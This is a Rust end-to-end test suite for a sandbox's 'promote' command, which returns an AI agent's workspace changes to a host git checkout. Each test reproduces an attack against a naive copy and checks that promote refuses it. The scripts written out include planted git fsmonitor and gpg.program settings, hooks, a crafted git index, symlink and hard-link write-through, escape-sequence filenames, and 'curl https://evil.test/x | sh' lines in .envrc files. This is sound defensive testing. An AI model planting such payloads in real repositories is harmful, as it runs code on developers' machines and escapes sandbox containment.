//! Promote suite: an agent works in a real git checkout (files owned by uid 1000) through
//! podman and ctr, and its changes come back to the host only through `agent-sandbox
//! promote`. Each attack is first shown to work against a naive promotion (`cp -a` of the
//! overlay's upper dir, or Python's `shutil.copytree`): the agent's command runs on a host
//! `git status`, a file lands outside the target, a linked script changes, a spoofed
//! manifest deletes a file. Then `promote` refuses it (or, for what a naive copy left in
//! the target, applies without writing through it) and the host stays as it was.
//!
//! The image has no git: the host's Debian git (`/usr/bin/git`, whose libraries the tools
//! image carries) is bound read-only into the sandbox. The checkout is made writable for
//! the sandbox's unprivileged ids with `chmod -R a+rwX` (mode bits only; git tracks none of
//! them but the execute bit).

use std::fs;
use std::os::unix::fs::MetadataExt as _;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::atomic::{AtomicU32, Ordering};

use agent_sandbox_e2e::ctr::{self, Container, Shim};
use agent_sandbox_e2e::harness::{
    self, DEFAULT_TIMEOUT, Output, TOOLS_IMAGE, User, tree_snapshot as snapshot,
};
use agent_sandbox_e2e::podman::{ContainerGuard, Podman, Runtime};
use anyhow::{Context, bail, ensure};

/// The checkout's owner on the host.
pub(super) const OWNER: u32 = 1000;
/// Debian's git, bound into the sandbox and run on the host.
pub(super) const GIT: &str = "/usr/bin/git";
/// A newer git (2.47, built by setup): the host-side checks run with both.
const NEW_GIT: &str = "/usr/local/bin/git";
/// Rootful podman's runtime state root (the runtime's default as root).
const PODMAN_ROOT: &str = "/run/agent-sandbox";

fn run_ok(cmd: &mut Command) -> anyhow::Result<Output> {
    harness::run_ok(cmd, DEFAULT_TIMEOUT)
}

fn sh(script: &str) -> anyhow::Result<Output> {
    run_ok(Command::new("sh").args(["-ec", script]))
}

/// A host directory holding the checkout `ws` and copies of it (world-traversable, so the
/// checkout's owner can reach them).
pub(super) struct Host {
    dir: tempfile::TempDir,
    pub(super) ws: PathBuf,
}

impl Host {
    /// A git checkout with one commit, owned by [`OWNER`].
    pub(super) fn checkout() -> anyhow::Result<Host> {
        harness::require_file(GIT)?;
        harness::require_tool("setpriv")?;
        harness::require_tool("python3")?;
        let dir = tempfile::Builder::new().prefix("pr-promote-").tempdir()?;
        let ws = dir.path().join("ws");
        for (path, text) in [
            ("README.md", "# calc\n"),
            ("src/calc.py", "def add(a, b):\n    return a - b\n"),
            ("docs/notes", "notes\n"),
            ("tools/run.sh", "#!/bin/sh\necho safe\n"),
            ("pkg/mod.py", "x = 1\n"),
        ] {
            let p = ws.join(path);
            fs::create_dir_all(p.parent().context("no parent")?)?;
            fs::write(&p, text)?;
        }
        let d = dir.path().display();
        sh(&format!(
            "chmod 0755 {d}; mkdir {d}/home {d}/outside; chmod 0755 {d}/home {d}/outside
             chown {OWNER}:{OWNER} {d}/home {d}/outside
             cd {d}/ws; chmod 0755 tools/run.sh
             {GIT} init -q -b main .
             {GIT} add -A
             {GIT} -c user.name=dev -c user.email=dev@host commit -qm initial
             chown -R {OWNER}:{OWNER} .
             chmod -R a+rwX ."
        ))?;
        Ok(Host { dir, ws })
    }

    pub(super) fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    /// `cp -a` of `from` (a path under the host dir) to a new sibling `name`.
    pub(super) fn copy(&self, from: &Path, name: &str) -> anyhow::Result<PathBuf> {
        let to = self.path(name);
        run_ok(Command::new("cp").arg("-a").arg(from).arg(&to))?;
        Ok(to)
    }

    /// `git ARGS` in `repo` as the checkout's owner, as the developer would run it.
    pub(super) fn git(&self, repo: &Path, args: &[&str]) -> anyhow::Result<Output> {
        self.git_with(GIT, repo, args)
    }

    /// [`Host::git`] with the git binary `git`.
    fn git_with(&self, git: &str, repo: &Path, args: &[&str]) -> anyhow::Result<Output> {
        harness::require_file(git)?;
        harness::run(
            Command::new("setpriv")
                .args([
                    "--reuid",
                    &OWNER.to_string(),
                    "--regid",
                    &OWNER.to_string(),
                    "--clear-groups",
                    "env",
                ])
                .arg(format!("HOME={}", self.path("home").display()))
                .arg(git)
                .arg("-C")
                .arg(repo)
                .args(args),
            DEFAULT_TIMEOUT,
        )
    }

    /// A marker path the agent's planted command would create, unique to this test.
    fn marker(&self, name: &str) -> PathBuf {
        self.path("outside").join(name)
    }
}

/// The entry point a sandbox runs through.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Via {
    Podman,
    Ctr,
}

/// A sleeping sandbox over a workspace, into which the agent's scripts are exec'd.
pub(super) struct Agent {
    via: Via,
    pub(super) id: String,
    pub(super) root: PathBuf,
    name: String,
    _podman: Option<ContainerGuard>,
    _ctr: Option<Container>,
}

fn sandbox() -> Podman {
    Podman::new(User::Root, Runtime::AgentSandbox)
}

impl Agent {
    pub(super) fn start(via: Via, workspace: &Path) -> anyhow::Result<Agent> {
        harness::require_file(harness::runtime_bin())?;
        let ws = workspace.display().to_string();
        match via {
            Via::Podman => {
                harness::require_podman_image(User::Root, TOOLS_IMAGE)?;
                let (guard, id) = sandbox().run_detached(
                    &[],
                    "pr-promote",
                    &[
                        "-v",
                        &format!("{ws}:/workspace"),
                        "-v",
                        &format!("{GIT}:{GIT}:ro"),
                        TOOLS_IMAGE,
                        "sleep",
                        "600",
                    ],
                )?;
                let name = guard.name.clone();
                Ok(Agent {
                    via,
                    id,
                    root: PathBuf::from(PODMAN_ROOT),
                    name,
                    _podman: Some(guard),
                    _ctr: None,
                })
            }
            Via::Ctr => {
                ctr::require_containerd()?;
                let id = format!("pr-{}", ctr::unique_id("promote"));
                let c = Container::start_detached(
                    Shim::AgentSandbox,
                    &[
                        "--mount",
                        &format!("type=bind,src={ws},dst=/workspace,options=rbind:rw"),
                        "--mount",
                        &format!("type=bind,src={GIT},dst={GIT},options=rbind:ro"),
                    ],
                    TOOLS_IMAGE,
                    &id,
                    &["sleep", "600"],
                )?;
                c.wait_status("RUNNING", std::time::Duration::from_secs(30))?;
                Ok(Agent {
                    via,
                    id: id.clone(),
                    root: PathBuf::from(format!("{}/{}", ctr::RUNTIME_ROOT, ctr::NAMESPACE)),
                    name: id,
                    _podman: None,
                    _ctr: Some(c),
                })
            }
        }
    }

    /// Runs the agent's `script` in /workspace; it must succeed.
    pub(super) fn exec(&self, script: &str) -> anyhow::Result<Output> {
        static N: AtomicU32 = AtomicU32::new(0);
        let script = format!("set -e; cd /workspace; {script}");
        let out = match self.via {
            Via::Podman => sandbox().run(&["exec", &self.name, "sh", "-c", &script])?,
            Via::Ctr => {
                let exec_id = format!("agent{}", N.fetch_add(1, Ordering::Relaxed));
                let c = self._ctr.as_ref().context("no ctr container")?;
                c.task_cmd(&["exec", "--exec-id", &exec_id], &["sh", "-c", &script])?
            }
        };
        ensure!(out.success(), "the agent's script failed\n{out}");
        Ok(out)
    }

    /// `agent-sandbox --root ROOT ARGS... ID`.
    pub(super) fn runtime(&self, args: &[&str]) -> anyhow::Result<Output> {
        harness::run(
            Command::new(harness::runtime_bin())
                .arg("--root")
                .arg(&self.root)
                .args(args)
                .arg(&self.id),
            DEFAULT_TIMEOUT,
        )
    }

    /// `promote --to TARGET [--dry-run]`.
    pub(super) fn promote(&self, target: &Path, dry_run: bool) -> anyhow::Result<Output> {
        let to = target.display().to_string();
        let mut args = vec!["promote", "--to", to.as_str()];
        if dry_run {
            args.push("--dry-run");
        }
        self.runtime(&args)
    }

    /// The overlay's upper dir: what a naive promotion copies.
    pub(super) fn upper(&self) -> anyhow::Result<PathBuf> {
        let path = self
            .root
            .join("sandbox")
            .join(&self.id)
            .join("workspace.json");
        let ws: serde_json::Value = serde_json::from_slice(&fs::read(&path)?)?;
        Ok(PathBuf::from(
            ws["upper"]
                .as_str()
                .context("workspace.json without upper")?,
        ))
    }

    /// Naive promotion: `cp -a UPPER/. TARGET/`, then (with `chown`) the files handed to
    /// their owner, as a developer would before working on them.
    pub(super) fn naive_cp(&self, target: &Path, chown: bool) -> anyhow::Result<()> {
        let upper = self.upper()?;
        run_ok(
            Command::new("cp")
                .arg("-a")
                .arg(format!("{}/.", upper.display()))
                .arg(target),
        )?;
        if !chown {
            return Ok(());
        }
        run_ok(
            Command::new("chown")
                .args(["-R", "--no-dereference", &format!("{OWNER}:{OWNER}")])
                .arg(target),
        )?;
        Ok(())
    }

    /// Naive promotion: `shutil.copytree(UPPER, TARGET, symlinks=True, dirs_exist_ok=True)`.
    fn naive_copytree(&self, target: &Path) -> anyhow::Result<Output> {
        let upper = self.upper()?;
        harness::run(
            Command::new("python3")
                .arg("-c")
                .arg("import shutil, sys; shutil.copytree(sys.argv[1], sys.argv[2], symlinks=True, dirs_exist_ok=True)")
                .arg(&upper)
                .arg(target),
            DEFAULT_TIMEOUT,
        )
    }
}

/// The quarantine ref a promotion wrote for the agent's main.
fn quarantine_ref(out: &Output) -> anyhow::Result<String> {
    out.stdout
        .lines()
        .find_map(|l| {
            l.strip_prefix("wrote ")
                .filter(|r| r.starts_with("refs/agent-sandbox/") && r.ends_with("/heads/main"))
        })
        .map(str::to_owned)
        .with_context(|| format!("no quarantine ref written\n{out}"))
}

/// Requires `promote` to refuse (exit 1, nothing applied) and to name each of `paths`.
fn refused(out: &Output, paths: &[&str]) -> anyhow::Result<()> {
    ensure!(
        out.code == Some(1) && out.stderr.contains("nothing was applied"),
        "promote did not refuse\n{out}"
    );
    for p in paths {
        ensure!(
            out.stdout.contains(&format!("refused /{p}: ")),
            "promote did not refuse /{p}\n{out}"
        );
    }
    ensure!(
        !out.stdout.contains('\x1b') && !out.stderr.contains('\x1b'),
        "raw ESC in promote's output\n{out}"
    );
    Ok(())
}

fn promotes_edits_creates_deletes_and_a_commit(via: Via) -> anyhow::Result<()> {
    let host = Host::checkout()?;
    let agent = Agent::start(via, &host.ws)?;
    agent.exec(&format!(
        "printf 'def add(a, b):\\n    return a + b\\n' > src/calc.py
         mkdir -p src/new && echo 'y = 2' > src/new/mod.py
         rm docs/notes
         G='{GIT} -c safe.directory=* -c user.name=agent -c user.email=agent@sandbox'
         $G add -A && $G commit -qm 'agent: fix add'
         echo draft > scratch.txt"
    ))?;
    let diff = agent.runtime(&["diff"])?;
    for line in [
        "M /src/calc.py (file)",
        "A /src/new/mod.py (file)",
        "D /docs/notes (file)",
    ] {
        ensure!(diff.stdout.contains(line), "diff lacks {line:?}\n{diff}");
    }
    let target = host.copy(&host.ws, "target")?;
    let before = snapshot(&target)?;
    let dry = agent.promote(&target, true)?;
    ensure!(
        dry.success() && dry.stdout.contains("dry run: nothing was changed"),
        "dry run failed\n{dry}"
    );
    for line in [
        "/src/calc.py (file 0644",
        "delete  /docs/notes",
        "history: 1 new commits, 1 refs",
        " agent: fix add\n",
        "refs/heads/main)",
    ] {
        ensure!(dry.stdout.contains(line), "plan lacks {line:?}\n{dry}");
    }
    // No file below .git is copied: the history comes back as commits.
    ensure!(
        !dry.stdout.contains(" /.git/"),
        "the plan copies .git files\n{dry}"
    );
    ensure!(
        snapshot(&target)? == before,
        "the dry run changed the target"
    );

    let digest = dry
        .stdout
        .split("change set ")
        .nth(1)
        .and_then(|s| s.split(')').next())
        .context("no digest in the plan")?
        .to_owned();
    // A change set other than the reviewed one is not applied.
    let stale = format!("sha256:{}", "0".repeat(64));
    let mismatch = agent.runtime(&[
        "promote",
        "--to",
        &target.display().to_string(),
        "--digest",
        &stale,
    ])?;
    ensure!(
        mismatch.code == Some(1) && mismatch.stderr.contains("not the reviewed"),
        "promote applied an unreviewed change set\n{mismatch}"
    );
    ensure!(
        snapshot(&target)? == before,
        "a refused promotion changed the target"
    );

    // --advance refuses a target whose branch moved since the sandbox started, changing
    // nothing.
    let moved = host.copy(&host.ws, "moved")?;
    sh(&format!(
        "cd {m} && {GIT} -c safe.directory=* -c user.name=dev -c user.email=dev@host commit -q --allow-empty -m dev",
        m = moved.display()
    ))?;
    let moved_before = snapshot(&moved)?;
    let refused_ff =
        agent.runtime(&["promote", "--to", &moved.display().to_string(), "--advance"])?;
    ensure!(
        refused_ff.code == Some(1)
            && refused_ff.stderr.contains("cannot advance refs/heads/main")
            && refused_ff.stderr.contains("nothing was changed"),
        "promote --advance did not refuse a moved branch\n{refused_ff}"
    );
    ensure!(
        snapshot(&moved)? == moved_before,
        "a refused --advance changed the target"
    );

    let out = agent.runtime(&[
        "promote",
        "--to",
        &target.display().to_string(),
        "--digest",
        &digest,
        "--advance",
    ])?;
    ensure!(out.success(), "promote failed\n{out}");
    let quarantine = quarantine_ref(&out)?;
    for git in [GIT, NEW_GIT] {
        let log = host.git_with(git, &target, &["log", "--format=%s", &quarantine])?;
        ensure!(
            log.success() && log.stdout.starts_with("agent: fix add\ninitial"),
            "{git}: the agent's commit is not under {quarantine}\n{log}"
        );
        let log = host.git_with(git, &target, &["log", "--format=%s"])?;
        ensure!(
            log.success() && log.stdout.starts_with("agent: fix add\ninitial"),
            "{git}: --advance did not fast-forward main\n{log}"
        );
        let fsck = host.git_with(git, &target, &["fsck", "--strict"])?;
        ensure!(fsck.success(), "{git}: git fsck failed\n{fsck}");
    }
    // Every object and ref written below .git belongs to the checkout's owner.
    for (path, what) in snapshot(&target.join(".git"))? {
        ensure!(
            what.ends_with(&format!(" {OWNER}:{OWNER}")),
            ".git/{}: {what}",
            path.display()
        );
    }
    // The project's own test passes on the host with the agent's fix.
    let test = run_ok(
        Command::new("python3")
            .current_dir(target.join("src"))
            .args(["-c", "from calc import add; assert add(2, 3) == 5"]),
    );
    ensure!(
        test.is_ok(),
        "the project's test fails after promote: {test:?}"
    );
    // The index still holds the old commit until the developer updates it (docs).
    let reset = host.git(&target, &["reset", "-q"])?;
    ensure!(reset.success(), "git reset failed\n{reset}");
    let status = host.git(&target, &["status", "--porcelain"])?;
    ensure!(
        status.success() && status.stdout == "?? scratch.txt\n",
        "unexpected host status\n{status}"
    );
    ensure!(fs::read_to_string(target.join("src/calc.py"))?.contains("a + b"));
    ensure!(!target.join("docs/notes").exists());
    for p in [
        "src/new",
        "src/new/mod.py",
        "scratch.txt",
        ".git/refs/heads/main",
    ] {
        let m = fs::symlink_metadata(target.join(p))?;
        ensure!(
            (m.uid(), m.gid()) == (OWNER, OWNER) && m.mode() & 0o7022 == 0,
            "{p}: owner {}:{} mode {:o}",
            m.uid(),
            m.gid(),
            m.mode()
        );
    }
    // The audit log holds a promoted record with the plan's digest, and still verifies.
    let json = agent.runtime(&["audit", "--json"])?;
    let promoted: Vec<serde_json::Value> = json
        .stdout
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|r| r["kind"] == "promoted")
        .collect();
    ensure!(
        promoted.len() == 1
            && promoted[0]["data"]["digest"] == digest.as_str()
            && promoted[0]["data"]["complete"] == true
            && promoted[0]["data"]["target"] == target.display().to_string().as_str(),
        "no promoted record with digest {digest}\n{json}"
    );
    let verify = agent.runtime(&["audit", "verify"])?;
    ensure!(verify.success(), "audit verify failed\n{verify}");
    // The host checkout the workspace came from is untouched.
    let ws_log = host.git(&host.ws, &["log", "--format=%s"])?;
    ensure!(ws_log.stdout == "initial\n", "{ws_log}");
    Ok(())
}

#[test]
fn podman_promote_brings_edits_creates_deletes_and_the_agents_commit_to_the_host_checkout()
-> anyhow::Result<()> {
    promotes_edits_creates_deletes_and_a_commit(Via::Podman)
}

#[test]
fn ctr_promote_brings_edits_creates_deletes_and_the_agents_commit_to_the_host_checkout()
-> anyhow::Result<()> {
    promotes_edits_creates_deletes_and_a_commit(Via::Ctr)
}

/// `.git/commondir` pointing at a directory of the agent's whose config sets
/// `core.fsmonitor`, and a `pkg/.git` gitdir file pointing at the same place: after a naive
/// copy the developer's `git status` runs the agent's command.
fn git_indirection(via: Via) -> anyhow::Result<()> {
    let host = Host::checkout()?;
    let agent = Agent::start(via, &host.ws)?;
    let marker = host.marker("fsmonitor-ran");
    agent.exec(&format!(
        "mkdir .cache && cp -R .git/. .cache/
         printf '[core]\\n\\tfsmonitor = \"touch {m}; false\"\\n' >> .cache/config
         echo ../.cache > .git/commondir
         echo 'gitdir: ../.cache' > pkg/.git",
        m = marker.display()
    ))?;

    let naive = host.copy(&host.ws, "naive")?;
    agent.naive_cp(&naive, true)?;
    host.git(&naive, &["status", "--short"])?;
    ensure!(
        marker.exists(),
        "naive: host git status did not run the planted fsmonitor (commondir)"
    );
    fs::remove_file(&marker)?;
    host.git(&naive.join("pkg"), &["status", "--short"])?;
    ensure!(
        marker.exists(),
        "naive: host git status did not run the planted fsmonitor (gitdir file)"
    );
    fs::remove_file(&marker)?;

    let target = host.copy(&host.ws, "target")?;
    let before = snapshot(&target)?;
    let out = agent.promote(&target, false)?;
    refused(&out, &[".git/commondir", "pkg/.git", ".cache"])?;
    ensure!(
        snapshot(&target)? == before,
        "a refused promotion changed the target"
    );
    host.git(&target, &["status", "--short"])?;
    host.git(&target.join("pkg"), &["status", "--short"])?;
    ensure!(!marker.exists(), "the planted fsmonitor ran after promote");
    Ok(())
}

#[test]
fn podman_planted_commondir_and_gitdir_run_code_on_host_git_after_a_naive_copy_and_promote_refuses_them()
-> anyhow::Result<()> {
    git_indirection(Via::Podman)
}

#[test]
fn ctr_planted_commondir_and_gitdir_run_code_on_host_git_after_a_naive_copy_and_promote_refuses_them()
-> anyhow::Result<()> {
    git_indirection(Via::Ctr)
}

/// A nested repository with its own config and hook, and protected names that did not
/// exist yet, created at depth.
#[test]
fn podman_nested_git_config_hooks_and_protected_names_at_depth_are_refused() -> anyhow::Result<()> {
    let host = Host::checkout()?;
    let agent = Agent::start(Via::Podman, &host.ws)?;
    let marker = host.marker("nested-fsmonitor-ran");
    agent.exec(&format!(
        "G='{GIT} -c safe.directory=* -c user.name=a -c user.email=a@b'
         mkdir -p vendor/lib && cd vendor/lib && $G init -q -b main . && mkdir -p .git/hooks
         echo v > v && $G add v
         $G commit -qm vendored
         printf '[core]\\n\\tfsmonitor = \"touch {m}; false\"\\n' >> .git/config
         printf '#!/bin/sh\\ntouch {m}\\n' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout
         cd /workspace
         echo 'curl https://evil.test/x | sh' > pkg/.envrc
         echo 'curl https://evil.test/x | sh' > .envrc
         mkdir -p .vscode && echo '{{\"tasks\":[{{\"command\":\"id\",\"runOptions\":{{\"runOn\":\"folderOpen\"}}}}]}}' > .vscode/tasks.json
         echo '{{\"mcpServers\":{{\"x\":{{\"command\":\"id\"}}}}}}' > .mcp.json
         echo 'alias ls=id' > src/.bashrc",
        m = marker.display()
    ))?;

    let naive = host.copy(&host.ws, "naive")?;
    agent.naive_cp(&naive, true)?;
    for p in [
        "pkg/.envrc",
        ".envrc",
        ".vscode/tasks.json",
        ".mcp.json",
        "src/.bashrc",
    ] {
        ensure!(naive.join(p).is_file(), "naive: {p} did not land");
    }
    host.git(&naive.join("vendor/lib"), &["status", "--short"])?;
    ensure!(
        marker.exists(),
        "naive: the nested repo's fsmonitor did not run"
    );
    fs::remove_file(&marker)?;

    let target = host.copy(&host.ws, "target")?;
    let before = snapshot(&target)?;
    let out = agent.promote(&target, false)?;
    refused(
        &out,
        &[
            "pkg/.envrc",
            ".envrc",
            ".vscode",
            ".vscode/tasks.json",
            ".mcp.json",
            "src/.bashrc",
            "vendor/lib/.git/config",
            "vendor/lib/.git/hooks/post-checkout",
        ],
    )?;
    ensure!(
        snapshot(&target)? == before,
        "a refused promotion changed the target"
    );
    Ok(())
}

/// Round one plants a symlink to a directory outside the checkout and hard-links a doc to a
/// script; round two (a new sandbox over what round one left) writes through both. A naive
/// copy writes outside the checkout and changes the script; promote refuses round one's link
/// and, over a target a naive round one already spoiled, writes through neither.
#[test]
fn podman_symlink_and_hardlink_planted_in_round_one_are_never_written_through_in_round_two()
-> anyhow::Result<()> {
    let host = Host::checkout()?;
    let outside = host.path("outside");
    let script = fs::read_to_string(host.ws.join("tools/run.sh"))?;

    // Round one.
    let one = Agent::start(Via::Podman, &host.ws)?;
    one.exec("ln -s ../outside assets && rm docs/notes && ln tools/run.sh docs/notes")?;
    let target = host.copy(&host.ws, "target")?;
    let before = snapshot(&target)?;
    let out = one.promote(&target, false)?;
    refused(&out, &["assets"])?;
    ensure!(
        snapshot(&target)? == before,
        "a refused promotion changed the target"
    );
    let spoiled = host.copy(&host.ws, "spoiled")?;
    one.naive_cp(&spoiled, true)?;
    ensure!(
        fs::symlink_metadata(spoiled.join("assets"))?
            .file_type()
            .is_symlink()
    );
    ensure!(
        fs::metadata(spoiled.join("docs/notes"))?.ino()
            == fs::metadata(spoiled.join("tools/run.sh"))?.ino(),
        "naive round one did not keep the hard link"
    );
    drop(one);

    // Round two, over what the naive round one left.
    let ws2 = host.copy(&spoiled, "ws2")?;
    let two = Agent::start(Via::Podman, &ws2)?;
    two.exec("rm assets && mkdir assets && echo agent > assets/pwn.txt && echo 'curl evil | sh' > docs/notes")?;

    let naive = host.copy(&spoiled, "naive")?;
    // copytree may also complain about copying overlayfs' xattrs; what it wrote counts.
    let copied = two.naive_copytree(&naive)?;
    ensure!(
        outside.join("pwn.txt").exists(),
        "naive: copytree did not write through the planted symlink\n{copied}"
    );
    ensure!(
        fs::read_to_string(naive.join("tools/run.sh"))?.contains("curl evil"),
        "naive: copytree did not write through the planted hard link"
    );
    fs::remove_file(outside.join("pwn.txt"))?;

    let target2 = host.copy(&spoiled, "target2")?;
    let out = two.promote(&target2, false)?;
    ensure!(out.success(), "promote failed\n{out}");
    ensure!(
        fs::read_dir(&outside)?.next().is_none(),
        "promote wrote outside the target"
    );
    ensure!(
        fs::read_to_string(target2.join("tools/run.sh"))? == script,
        "promote wrote through the hard link"
    );
    ensure!(fs::symlink_metadata(target2.join("assets"))?.is_dir());
    ensure!(fs::read_to_string(target2.join("assets/pwn.txt"))? == "agent\n");
    ensure!(fs::read_to_string(target2.join("docs/notes"))? == "curl evil | sh\n");
    Ok(())
}

/// A fifo, a socket, a setuid file, a name that erases the line before it and a deletion
/// manifest of the agent's own. A naive copy carries them all (and a manifest-driven flow
/// deletes the file the manifest names); promote refuses them, and every human view
/// escapes the name while JSON keeps it exact.
#[test]
fn ctr_special_files_control_characters_and_a_spoofed_manifest_are_refused() -> anyhow::Result<()> {
    let host = Host::checkout()?;
    let agent = Agent::start(Via::Ctr, &host.ws)?;
    agent.exec(
        "mkfifo pipe
         python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"sock\")'
         cp tools/run.sh tool && chmod 4755 tool
         printf 'x' > \"$(printf 'ok.txt\\033[1A\\033[2K')\"
         printf 'README.md\\0' > .agent-sandbox-deleted",
    )?;
    let hidden = "ok.txt\x1b[1A\x1b[2K";

    // Human views escape the name; a plain listing of the upper dir does not.
    let upper = agent.upper()?;
    let ls = run_ok(Command::new("ls").arg("-1").arg(&upper))?;
    ensure!(
        ls.stdout.contains(hidden),
        "the raw name is not in a plain listing\n{ls}"
    );
    let diff = agent.runtime(&["diff"])?;
    ensure!(
        diff.stdout.contains("A /ok.txt\\x1b[1A\\x1b[2K (file)") && !diff.stdout.contains('\x1b'),
        "diff does not escape the name\n{diff}"
    );

    let naive = host.copy(&host.ws, "naive")?;
    agent.naive_cp(&naive, false)?;
    ensure!(
        fs::metadata(naive.join("tool"))?.mode() & 0o4000 != 0,
        "naive: setuid lost"
    );
    ensure!(
        naive.join(hidden).exists(),
        "naive: the hidden name did not land"
    );
    // A review flow that trusts the manifest found in the copy deletes what the agent named.
    sh(&format!(
        "cd {}; xargs -0 rm -f < .agent-sandbox-deleted",
        naive.display()
    ))?;
    ensure!(
        !naive.join("README.md").exists(),
        "naive: the spoofed manifest deleted nothing"
    );

    let target = host.copy(&host.ws, "target")?;
    let before = snapshot(&target)?;
    let out = agent.promote(&target, false)?;
    refused(
        &out,
        &[
            "pipe",
            "sock",
            "tool",
            "ok.txt\\x1b[1A\\x1b[2K",
            ".agent-sandbox-deleted",
        ],
    )?;
    ensure!(
        snapshot(&target)? == before,
        "a refused promotion changed the target"
    );
    ensure!(target.join("README.md").exists());

    // After delete: the files_changed record keeps the exact name in JSON; the timeline
    // escapes it.
    let root = format!("{}/{}", ctr::RUNTIME_ROOT, ctr::NAMESPACE);
    let id = agent.id.clone();
    drop(agent);
    let audit = |args: &[&str]| {
        harness::run(
            Command::new(harness::runtime_bin())
                .args(["--root", &root, "audit"])
                .args(args)
                .arg(&id),
            DEFAULT_TIMEOUT,
        )
    };
    let human = audit(&[])?;
    ensure!(
        human.success()
            && human.stdout.contains("A /ok.txt\\x1b[1A\\x1b[2K")
            && !human.stdout.contains('\x1b'),
        "the timeline does not escape the name\n{human}"
    );
    let json = audit(&["--json"])?;
    let exact = json
        .stdout
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .any(|r| {
            r["kind"] == "files_changed"
                && r["data"]["paths"]
                    .as_array()
                    .is_some_and(|p| p.iter().any(|p| p == &format!("A /{hidden}")))
        });
    ensure!(
        exact,
        "the JSON record does not keep the exact name\n{json}"
    );
    if !audit(&["verify"])?.success() {
        bail!("audit verify failed");
    }
    Ok(())
}

/// Requires `promote` to refuse the history (exit 1, nothing applied), naming each of `paths`
/// in a commit's tree.
fn history_refused(out: &Output, paths: &[&str]) -> anyhow::Result<()> {
    ensure!(
        out.code == Some(1) && out.stderr.contains("nothing was applied"),
        "promote did not refuse\n{out}"
    );
    for p in paths {
        ensure!(
            out.stdout
                .lines()
                .any(|l| l.starts_with("refused commit ") && l.contains(&format!(" /{p}: "))),
            "promote did not refuse /{p} in a commit\n{out}"
        );
    }
    Ok(())
}

/// Attack (a): a repository outside `.git`. `src/HEAD` and `src/commondir` -> `../tools/c`,
/// which holds `objects/`, `refs/` and a config setting `gpg.program` and
/// `log.showSignature`, its main a commit with a signature header: the developer's `git log`
/// in `src/` runs the agent's program (git 2.39 and 2.47 alike).
fn repository_outside_git(via: Via) -> anyhow::Result<()> {
    let host = Host::checkout()?;
    let agent = Agent::start(via, &host.ws)?;
    let marker = host.marker("gpg-program-ran");
    let naive = host.path("naive");
    agent.exec(&format!(
        "G='{GIT} -c safe.directory=*'
         python3 - <<'PY'
import os, subprocess
g = ['{GIT}', '-c', 'safe.directory=*']
c = subprocess.run(g + ['cat-file', 'commit', 'HEAD'], capture_output=True, check=True).stdout
head, msg = c.split(b'\\n\\n', 1)
sig = b'gpgsig -----BEGIN PGP SIGNATURE-----\\n \\n =abcd\\n -----END PGP SIGNATURE-----'
oid = subprocess.run(g + ['hash-object', '-t', 'commit', '-w', '--stdin'],
                     input=head + b'\\n' + sig + b'\\n\\n' + msg,
                     capture_output=True, check=True).stdout.strip()
os.makedirs('tools/c/refs/heads')
open('tools/c/refs/heads/main', 'wb').write(oid + b'\\n')
PY
         cp -R .git/objects tools/c/objects
         printf '#!/bin/sh\\ntouch {m}\\n' > tools/c/gpg.sh && chmod +x tools/c/gpg.sh
         printf '[log]\\n\\tshowSignature = true\\n[gpg]\\n\\tprogram = {n}/tools/c/gpg.sh\\n' > tools/c/config
         echo 'ref: refs/heads/main' > src/HEAD
         echo ../tools/c > src/commondir",
        m = marker.display(),
        n = naive.display(),
    ))?;

    let naive = host.copy(&host.ws, "naive")?;
    agent.naive_cp(&naive, true)?;
    for git in [GIT, NEW_GIT] {
        host.git_with(git, &naive.join("src"), &["log", "--oneline"])?;
        ensure!(
            marker.exists(),
            "naive: {git} log in src/ did not run the planted gpg.program"
        );
        fs::remove_file(&marker)?;
    }

    let target = host.copy(&host.ws, "target")?;
    let before = snapshot(&target)?;
    let out = agent.promote(&target, false)?;
    refused(&out, &["src"])?;
    ensure!(
        out.stdout.contains("makes a directory a git directory"),
        "{out}"
    );
    ensure!(
        snapshot(&target)? == before,
        "a refused promotion changed the target"
    );
    for git in [GIT, NEW_GIT] {
        host.git_with(git, &target.join("src"), &["log", "--oneline"])?;
        ensure!(
            !marker.exists(),
            "{git}: the planted gpg.program ran after promote"
        );
    }
    Ok(())
}

#[test]
fn podman_a_repository_outside_git_through_commondir_runs_code_on_host_git_log_after_a_naive_copy_and_promote_refuses_it()
-> anyhow::Result<()> {
    repository_outside_git(Via::Podman)
}

#[test]
fn ctr_a_repository_outside_git_through_commondir_runs_code_on_host_git_log_after_a_naive_copy_and_promote_refuses_it()
-> anyhow::Result<()> {
    repository_outside_git(Via::Ctr)
}

/// Writes a git index (version 2) at argv[1] with entries `MODE,SHA,NAME` (argv[2:]): git
/// refuses to stage `.git/...` itself, so the agent crafts the file.
const MAKE_INDEX: &str = r#"
import hashlib, struct, sys
entries = sorted((n.encode(), int(m, 8), bytes.fromhex(s))
                 for m, s, n in (a.split(',', 2) for a in sys.argv[2:]))
out = b'DIRC' + struct.pack('>II', 2, len(entries))
for name, mode, sha in entries:
    e = struct.pack('>10I', 0, 0, 0, 0, 0, 0, mode, 0, 0, 0) + sha
    e += struct.pack('>H', min(len(name), 0xfff)) + name
    out += e + b'\0' * (8 - len(e) % 8)
out += hashlib.sha1(out).digest()
open(sys.argv[1], 'wb').write(out)
"#;

/// Attack (b): a carried `.git/index` whose entry `.git/hooks/post-checkout` (its blob in
/// `.git/objects`) the developer's `git checkout -- .` writes and then runs.
fn carried_index(via: Via) -> anyhow::Result<()> {
    let host = Host::checkout()?;
    let agent = Agent::start(via, &host.ws)?;
    let marker = host.marker("post-checkout-ran");
    agent.exec(&format!(
        "G='{GIT} -c safe.directory=*'
         B=$(printf '#!/bin/sh\\ntouch {m}\\n' | $G hash-object -w --stdin)
         R=$($G rev-parse HEAD:README.md)
         python3 -c \"$MAKE_INDEX\" .git/index 100644,$R,README.md 100755,$B,.git/hooks/post-checkout",
        m = marker.display(),
    ).replace("$MAKE_INDEX", &MAKE_INDEX.replace('"', "\\\"")))?;

    for git in [GIT, NEW_GIT] {
        let naive = host.copy(&host.ws, &format!("naive-{}", git.len()))?;
        agent.naive_cp(&naive, true)?;
        host.git_with(git, &naive, &["checkout", "--", "."])?;
